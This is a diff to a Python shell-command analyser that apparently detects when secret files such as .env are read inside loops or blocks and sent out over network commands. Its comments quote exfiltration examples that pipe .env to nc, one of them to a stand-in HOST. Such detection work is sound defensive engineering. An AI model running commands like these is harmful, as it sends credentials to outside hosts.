@@ -191,6 +191,8 @@ def stdin(an: Walk, cmd: Simple | None) -> list[tuple[str, str]]:
         source = cmd.piped_from             # bash -c 'cat .env' | nc: what ran inside it
         found.extend((label, f"the output of `{source.segment}`")
                      for label in state.cmds.get(id(source), state.segs.get(source.segment, ())))
+    elif cmd.piped and state is not None:
+        found.extend(piped_block(an, cmd))
     return found
 
 
@@ -531,14 +533,60 @@ def _reading(an: Walk, base: str, seg: str, cmd: Simple | None, named: list[Carr
             flow(an).pending[id(cmd)] = (seg, reason)
 
 
-def compound(an: Walk, value: str | None, raw: str, seg: str) -> None:
-    """``while read l; do ...; done < .env``: the loop's input is a secret file (the commands
-    inside are read before the redirection, so what they do with it is not followed)."""
+def compound(an: Walk, value: str | None, raw: str, seg: str, cmd: Simple) -> None:
+    """``while read l; do ...; done < .env``: the block's input is a secret file. The commands
+    inside were read before the redirection: each request among them carries it."""
     label = secret_file(an, home(value, raw))
-    if label is not None:
-        _read(an, seg, f"the commands read {raw}, which holds credentials (secrets.paths: "
-                       f"{label})", [label])
-        flow(an).reads.append((seg, [label]))        # "$(< .env)" is its content
+    if label is None:
+        return
+    _read(an, seg, f"the commands read {raw}, which holds credentials (secrets.paths: "
+                   f"{label})", [label])
+    flow(an).reads.append((seg, [label]))            # "$(< .env)" is its content
+    start = _block(cmd.text, cmd.start)
+    if start is None:
+        return
+    inside = cmd.text[start:cmd.start]
+    for act in list(an.acts):
+        if act.primitive in NETWORK and act.segment and act.segment in inside:
+            _exfiltration(an, act.segment.split()[0], act.segment,
+                          [(label, f"the secret file {raw}", "on the block's input")],
+                          act.hosts or ["?"])
+
+
+def _block(text: str, end: int) -> int | None:
+    """Where the block (``{ ...; }``, ``( ... )``, a ``while``/``until``/``for`` loop) that ends
+    just before ``end`` starts, when its text can be read back; else None."""
+    k = len(text[:end].rstrip())
+    closer = text[k - 1:k] if k else ""
+    if closer in ("}", ")"):
+        opener, depth = {"}": "{", ")": "("}[closer], 0
+        for j in range(k - 1, -1, -1):
+            if text[j] == closer:
+                depth += 1
+            elif text[j] == opener:
+                depth -= 1
+                if depth == 0:
+                    return j
+        return None
+    if text[:k].endswith("done"):
+        starts = [text.rfind(w, 0, k) for w in ("while ", "until ", "for ")]
+        found = max(starts)
+        return found if found >= 0 else None
+    return None
+
+
+def piped_block(an: Walk, cmd: Simple) -> list[tuple[str, str]]:
+    """``{ cat .env; } | nc HOST``: what the block a command reads from through a pipe read."""
+    state = an.flow
+    if state is None:
+        return []
+    bar = cmd.text.rfind("|", 0, cmd.start)
+    start = _block(cmd.text, bar) if bar > 0 else None
+    if start is None:
+        return []
+    inside = cmd.text[start:bar]
+    return [(label, f"the output of `{text}`") for text, labels in state.reads
+            if text and text in inside for label in labels]
 
 
 def _read(an: Walk, seg: str, reason: str, labels: list[str]) -> None:
